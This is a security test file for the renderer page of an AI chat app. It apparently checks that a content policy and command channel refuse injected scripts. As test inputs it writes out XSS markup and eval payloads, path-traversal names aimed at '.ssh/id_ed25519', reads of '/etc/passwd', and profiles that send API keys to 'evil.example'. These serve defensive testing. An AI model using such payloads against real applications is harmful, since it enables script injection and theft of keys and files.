import { existsSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { commands } from '../../src/shared/contract/contract';
import { goodInputs, hostileInputs } from '../support/handlers';
import { openSink } from '../support/sink';
import { makeHome, onEveryDoor, type Home, type Started } from './harness';
import { ready, startChat, status } from './steps';

let sink: Awaited<ReturnType<typeof openSink>>;
beforeEach(async () => {
  sink = await openSink();
});
afterEach(() => sink.close());

/**
 * A connection of a script's own inside the page, beside that of the window: what a hostile script would make. On a door
 * with a preload there is one channel for all, so the script uses that and listens to what the window no longer gets.
 */
const HOSTILE_CLIENT = `(() => {
  const waiting = new Map();
  let next = 1_000_000;
  const take = (text) => {
    const frame = JSON.parse(text);
    if (frame.kind === 'reply') { waiting.get(frame.call)?.(frame); waiting.delete(frame.call); }
  };
  const open = window.holdfast
    ? Promise.resolve(window.holdfast).then((bridge) => { bridge.onFrame(take); return bridge; })
    : new Promise((resolve, reject) => {
        const socket = new WebSocket('ws://' + location.host + '/ws');
        socket.onopen = () => resolve(socket);
        socket.onerror = () => reject(new Error('no connection'));
        socket.onmessage = (event) => take(event.data);
      });
  window.attack = async (name, input) => {
    const line = await open;
    const call = next++;
    return new Promise((resolve) => {
      waiting.set(call, resolve);
      line.send(JSON.stringify({ kind: 'call', call, name, input }));
      setTimeout(() => resolve({ ok: false, failure: { code: 'no_answer' } }), 20_000);
    });
  };
})()`;

type Attack = { ok: boolean; output?: Record<string, unknown>; failure?: { code: string } };
const attack = (started: Started, name: string, input: unknown): Promise<Attack> =>
  started.page.evaluate(
    ([command, value]) =>
      (window as unknown as { attack(name: unknown, input: unknown): Promise<unknown> }).attack(
        command,
        value,
      ),
    [name, input] as const,
  ) as Promise<Attack>;

/** Everything in a folder, by content, to see that nothing changed. */
function contents(folder: string): Record<string, string> {
  if (!existsSync(folder)) return {};
  return Object.fromEntries(
    readdirSync(folder, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry) => {
        const path = join(entry.parentPath, entry.name);
        return [path, readFileSync(path, 'utf8')];
      }),
  );
}

/** A home with things that no script in a page may read or change. */
function guardedHome(): Home {
  const home = makeHome();
  mkdirSync(join(home.path, '.ssh'));
  writeFileSync(join(home.path, '.ssh', 'id_ed25519'), 'CANARY-KEY');
  writeFileSync(join(home.files, 'notes.txt'), 'pears\n');
  return home;
}

onEveryDoor('the page', (start, target) => {
  it('runs no text as code, loads nothing from elsewhere, and reports each try as a violation', async () => {
    const { page } = await start();
    await ready(page);
    const report = await page.evaluate(async (url) => {
      const violations: string[] = [];
      const refused: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) =>
        violations.push(event.effectiveDirective),
      );
      const attempt = async (name: string, run: () => unknown) => {
        const before = violations.length;
        try {
          await run();
        } catch {
          refused.push(name);
        }
        await new Promise((resolve) => setTimeout(resolve, 120));
        if (violations.length > before) refused.push(name);
      };
      const element = (tag: string, attributes: Record<string, string>) => {
        const made = document.createElement(tag);
        for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
        document.body.append(made);
        return made;
      };
      const markup = `<img src=x onerror="window.__pwned=1"><svg onload="window.__pwned=1">`;
      await attempt(
        'innerHTML',
        () => (document.body.appendChild(document.createElement('div')).innerHTML = markup),
      );
      await attempt('insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', markup));
      await attempt('document.write', () => document.write(markup));
      await attempt('srcdoc', () => element('iframe', { srcdoc: markup }));
      await attempt('eval', () => (0, eval)('window.__pwned = 1'));
      await attempt('Function', () => new Function('window.__pwned = 1')());
      await attempt('setTimeout text', () => setTimeout('window.__pwned = 1' as unknown as () => void));
      await attempt('inline script', () => {
        const script = document.createElement('script');
        script.text = 'window.__pwned = 1';
        document.body.append(script);
      });
      await attempt('script from elsewhere', () => {
        const script = document.createElement('script');
        script.src = `${url}/x.js`;
        document.body.append(script);
      });
      await attempt('script from data', () =>
        element('script', { src: 'data:text/javascript,window.__pwned=1' }),
      );
      await attempt('event attribute', () => element('img', { src: 'x', onerror: 'window.__pwned=1' }));
      await attempt('import', () => import(/* @vite-ignore */ `${url}/x.js`));
      await attempt(
        'import from data',
        () => import(/* @vite-ignore */ `data:text/javascript,window.__pwned=1//${url}`),
      );
      await attempt('fetch', () => fetch(`${url}/fetch`));
      await attempt('beacon', () => {
        if (!navigator.sendBeacon(`${url}/beacon`)) throw new Error('refused');
      });
      await attempt('XMLHttpRequest', () => {
        const request = new XMLHttpRequest();
        request.open('GET', `${url}/xhr`, false);
        request.send();
      });
      await attempt('WebSocket', () => new WebSocket(url.replace('http', 'ws')));
      await attempt('EventSource', () => new EventSource(`${url}/events`));
      await attempt('remote image', () => element('img', { src: `${url}/image.png` }));
      await attempt('remote style', () => element('link', { rel: 'stylesheet', href: `${url}/style.css` }));
      await attempt(
        'style element',
        () => (element('style', {}).textContent = `body{background:url(${url}/css.png)}`),
      );
      await attempt('style attribute', () => element('p', { style: `background:url(${url}/attr.png)` }));
      await attempt('remote font', async () => {
        const font = new FontFace('x', `url(${url}/font.woff2)`);
        await font.load();
      });
      await attempt('remote media', () => element('video', { src: `${url}/video.mp4`, autoplay: '' }));
      await attempt('frame', () => element('iframe', { src: `${url}/frame` }));
      await attempt('object', () => element('object', { data: `${url}/object` }));
      await attempt('embed', () => element('embed', { src: `${url}/embed` }));
      await attempt('base', () => element('base', { href: `${url}/` }));
      await attempt('form', () => {
        const form = element('form', { action: `${url}/form`, method: 'post' }) as HTMLFormElement;
        form.submit();
      });
      await attempt('worker', () => new Worker(`data:text/javascript,postMessage(1)`));
      await attempt('prefetch', () => element('link', { rel: 'prefetch', href: `${url}/prefetch` }));
      return { refused: [...new Set(refused)], violations: violations.length, pwned: '__pwned' in window };
    }, sink.url);
    expect(report.pwned).toBe(false);
    expect(report.refused.length).toBeGreaterThanOrEqual(28);
    expect(report.violations).toBeGreaterThanOrEqual(20);
    expect(sink.seen).toEqual([]);
    console.log(
      `policy on the ${target}: ${report.refused.length} ways tried and refused, ${report.violations} violations, ${sink.seen.length} requests`,
    );
  });

  it('has no Node, no Electron, and only the one channel', async () => {
    const { page } = await start();
    await ready(page);
    const seen = await page.evaluate(() => ({
      node: [
        typeof Reflect.get(window, 'require'),
        typeof Reflect.get(window, 'process'),
        typeof Reflect.get(window, 'module'),
      ],
      bridge: 'holdfast' in window ? Object.keys(Reflect.get(window, 'holdfast') as object) : [],
      frozen: !('holdfast' in window) || Object.isFrozen(Reflect.get(window, 'holdfast')),
      electron: Object.keys(window).filter((key) => /electron|ipc|node/i.test(key) && !/^on/.test(key)),
    }));
    expect(seen.node).toEqual(['undefined', 'undefined', 'undefined']);
    expect(seen.bridge).toEqual(target === 'browser door' ? [] : ['send', 'onFrame']);
    expect(seen.frozen).toBe(true);
    expect(seen.electron).toEqual([]);
  });

  it('gives a hostile script inside it no effect that a person did not approve', async () => {
    const home = guardedHome();
    const started = await start({
      home,
      env: { SOME_SECRET: 'CANARY-ENV', OPENAI_API_KEY: 'sk-CANARY-OPENAI' },
    });
    const { page } = started;
    await ready(page);
    // One run that waits for a person, in a folder that the person chose.
    await startChat(started, 'write out.txt: hello', { folder: home.files });
    await status(page, /Waiting for you/);
    const list = () => readdirSync(home.runs).filter((name) => /^\w+\.json$/.test(name));
    const [file = ''] = list();
    const id = file.replace('.json', '');
    const before = {
      files: contents(home.files),
      ssh: contents(join(home.path, '.ssh')),
      config: contents(home.config),
    };
    await page.evaluate(HOSTILE_CLIENT);

    const results: Record<string, string> = {};
    const run = async (what: string, name: string, input: unknown) => {
      const asked = attack(started, name, input);
      // The person says no, where and when the question is put to them.
      const no = () => started.type('no');
      const saying =
        target === 'browser door' && name.startsWith('profiles.') ? setInterval(no, 150) : undefined;
      const answer = await asked.finally(() => clearInterval(saying));
      const { done } = answer.output ?? {};
      results[what] = answer.ok
        ? done === false
          ? 'nothing done'
          : 'accepted'
        : (answer.failure?.code ?? '?');
      return answer;
    };
    const start1 = { prompt: 'read id_ed25519', chat: true, private: false, profile: 'Practice' };
    for (const folder of [
      '/',
      '/etc',
      home.path,
      join(home.path, '.ssh'),
      `${home.files}/../.ssh`,
      home.state,
      home.config,
    ]) {
      await run(`run in ${folder.replace(home.path, '~')}`, 'run.start', { ...start1, folder });
      await run(`resume in ${folder.replace(home.path, '~')}`, 'run.resume', {
        id,
        profile: 'Practice',
        folder,
        force: true,
        acceptEndpoint: true,
        unknown: [],
      });
      if (target === 'browser door' && folder === home.path) continue;
      await run(`look into ${folder.replace(home.path, '~')}`, 'folder.list', { path: folder });
    }
    for (const hash of ['', '0', 'a'.repeat(64), id, 'once', '*']) {
      await run(`approve with ${JSON.stringify(hash).slice(0, 12)}`, 'run.approve', {
        id,
        hash,
        decision: 'once',
      });
    }
    for (const url of [
      'https://evil.example/?q=1',
      'file:///etc/passwd',
      'javascript:1',
      'smb://evil.example/x',
    ]) {
      await run(`open ${url}`, 'link.open', { url });
    }
    const evil = { name: 'Evil', provider: 'openai', model: 'm', endpoint: `${sink.url}/v1` };
    await run('a profile that sends a key to a stranger', 'profiles.save', {
      profile: { ...evil, key_env: 'SOME_SECRET' },
    });
    await run('a profile that sends another key to a service', 'profiles.save', {
      profile: { ...evil, endpoint: undefined, key_env: 'SOME_SECRET' },
    });
    await run('a profile that sends chats to a stranger', 'profiles.save', {
      profile: { ...evil, endpoint: 'https://evil.example/v1' },
    });
    await run('a key for a list of models', 'profiles.models', {
      provider: 'openai',
      endpoint: `${sink.url}/v1`,
      key_env: 'SOME_SECRET',
    });
    await run('a text beside a run, by a way out', 'run.kept', {
      id,
      name: '../../../../.ssh/id_ed25519',
      from: 0,
      limit: 99,
    });
    await run('a run that is a way out', 'run.items', { id: '../x', from: 0, limit: 1 });
    await run('a command that does not exist', 'shell.run', { command: 'id' });
    await run('a name that every object has', 'constructor', {});
    const drafted = await attack(started, 'draft.set', { key: '../../../out', text: 'x' });
    expect(drafted.ok).toBe(true);

    const accepted = Object.entries(results).filter(([, result]) => result === 'accepted');
    expect(accepted).toEqual([]);
    console.log(
      `hostile script on the ${target}: ${Object.keys(results).length} tries, ${accepted.length} accepted`,
    );
    expect(contents(home.files)).toEqual(before.files);
    expect(contents(join(home.path, '.ssh'))).toEqual(before.ssh);
    expect(contents(home.config)).toEqual(before.config);
    expect(list()).toEqual([file]);
    expect(sink.seen).toEqual([]);
    expect(existsSync(join(home.path, 'out'))).toBe(false);
    for (const [path, text] of Object.entries(contents(home.state)))
      expect(text, path).not.toContain('CANARY');
    expect(started.output()).not.toContain('CANARY');
    if (target === 'stand-in') {
      const records = (await started.system('records')) as { what: string }[];
      expect(records.filter(({ what }) => what === 'openExternal')).toEqual([]);
    }
  });

  it('gets nothing accepted for any command with a hostile input, over the real channel', async () => {
    const started = await start();
    await ready(started.page);
    await started.page.evaluate(HOSTILE_CLIENT);
    const cases = Object.keys(commands).flatMap((name) =>
      hostileInputs(goodInputs[name as keyof typeof commands])
        // What JSON cannot carry is the same as its absence, and large texts were tried elsewhere.
        .filter(([what, input]) => input !== undefined && !/oversize/.test(what))
        .map(([what, input]) => [name, what, JSON.stringify(input)] as const),
    );
    const codes = await started.page.evaluate(async (all) => {
      const { attack: send } = window as unknown as { attack(name: string, input: unknown): Promise<Attack> };
      const found: string[] = [];
      for (let at = 0; at < all.length; at += 100) {
        const answers = await Promise.all(
          all.slice(at, at + 100).map(async ([name, what, text]) => {
            const answer = await send(name, JSON.parse(text));
            return answer.ok || answer.failure?.code !== 'bad_request' ? `${name}: ${what}` : '';
          }),
        );
        found.push(...answers.filter(Boolean));
      }
      return found;
    }, cases);
    expect(codes).toEqual([]);
    const covered = new Set(cases.map(([name]) => name)).size;
    expect(covered).toBe(Object.keys(commands).length);
    console.log(
      `hostile inputs on the ${target}: ${cases.length} over ${covered} commands, ${codes.length} accepted`,
    );
  });
});
